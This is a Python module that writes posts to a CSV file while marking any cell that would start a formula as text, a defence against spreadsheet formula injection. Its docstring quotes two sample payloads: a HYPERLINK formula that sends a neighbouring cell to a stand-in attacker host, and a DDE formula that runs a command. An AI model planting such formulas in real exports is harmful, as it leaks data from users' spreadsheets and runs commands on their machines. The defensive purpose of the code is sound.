"""Posts as a CSV file that a spreadsheet opens as data, never as formulas.

A downloaded CSV is opened in Excel, LibreOffice or Google Sheets, which read a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula: a post titled
``=HYPERLINK("https://evil.example/?"&A2, "click")`` would become a link that sends the
row next to it away, or ``=cmd|' /C calc'!A0`` a command. Such a cell is written with a
leading apostrophe, which spreadsheets read as "text follows" (OWASP's advice); a tab or
carriage return first, which some spreadsheets skip before a formula, counts alike.
"""

from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.csv as pa_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
TAG_SEPARATOR = "; "
UTF8_BOM = b"\xef\xbb\xbf"  # Excel then reads the Chinese right


def inert_cell(value: str | None) -> str | None:
    """``value`` as a cell no spreadsheet evaluates: marked as text when it starts a formula."""
    if value is None:
        return None
    return TEXT_MARK + value if value.lstrip(" ").startswith(FORMULA_STARTS) else value


def spreadsheet_csv(table: pa.Table) -> bytes:
    """``table`` as UTF-8 CSV with a BOM: lists (tags) joined by ``; ``, every text cell inert."""
    for index, field in enumerate(table.schema):
        column = table.column(index)
        if pa.types.is_list(field.type) or pa.types.is_large_list(field.type):
            values = [TAG_SEPARATOR.join(v) if v else None for v in column.to_pylist()]
        elif pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            values = column.to_pylist()
        else:
            continue
        table = table.set_column(index, field.name, pa.array([inert_cell(v) for v in values]))
    buffer = io.BytesIO()
    pa_csv.write_csv(table, buffer)
    return UTF8_BOM + buffer.getvalue()
